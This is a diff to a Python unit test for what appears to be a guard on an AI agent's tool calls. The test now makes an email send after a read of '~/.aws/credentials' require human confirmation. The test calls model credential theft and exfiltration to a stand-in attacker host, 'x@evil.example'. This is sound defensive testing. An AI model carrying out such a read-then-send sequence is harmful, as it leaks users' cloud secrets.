@@ -110,9 +110,10 @@ def test_logged_credential_read_still_arms_exfiltration() -> None:
     read = Call("read_file", Category.FILE_READ, {"path": "~/.aws/credentials"}, session_id="s")
     assert evaluate(read, config, ledger, NOW).verdict.value == "allow_with_log"
     send = Call("send_email", Category.OUTBOUND_SEND, {"to": "x@evil.example", "body": "hi"}, session_id="s")
-    assert evaluate(send, config, ledger, NOW).failed_clauses == (
-        "unauthorized_exfiltration.send_after_sensitive_read",
-    )
+    # No result of the read was reported, so nothing says what the send carries: a person confirms.
+    evaluation = evaluate(send, config, ledger, NOW)
+    assert evaluation.verdict.value == "confirm"
+    assert evaluation.failed_clauses == ("unauthorized_exfiltration.send_after_credential_read",)
     other = Call("send_email", Category.OUTBOUND_SEND, {"to": "x@evil.example", "body": "hi"}, session_id="t")
     assert evaluate(other, config, ledger, NOW).verdict.value == "allow"
 
